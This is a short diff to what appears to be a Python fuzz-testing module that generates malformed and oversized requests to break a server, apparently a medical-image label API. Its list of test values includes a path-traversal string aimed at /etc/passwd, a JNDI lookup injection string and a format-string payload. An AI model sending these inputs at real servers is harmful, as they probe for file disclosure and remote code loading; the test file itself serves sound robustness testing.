@@ -1,4 +1,4 @@
-"""Requests to break a server with: the films in all forms, JSON that is wrong in one place or in all, and bodies that grow."""
+"""Requests to break a server with: films in all forms, JSON that is wrong in a place or two, and bodies that grow."""
 
 from __future__ import annotations
 
@@ -12,7 +12,8 @@ import numpy as np
 
 _VALUES: list[Any] = [
     None, True, 0, -1, 1e308, 2**70, "", "a" * 5000, "\0", "é\u202e😀", [], [[]], {}, {"a": {}}, ["Effusion", 3],
-    ["Effusion"] * 2000, "Effusion,Edema", "flagged", ["flagged"], "sensitive", "../../etc/passwd", "${jndi:ldap://a/b}", "%s%n",
+    ["Effusion"] * 2000, "Effusion,Edema", "flagged", ["flagged"], "sensitive", "../../etc/passwd",
+    "${jndi:ldap://a/b}", "%s%n",
 ]  # fmt: skip
 _FIELDS = (
     "operating_point",
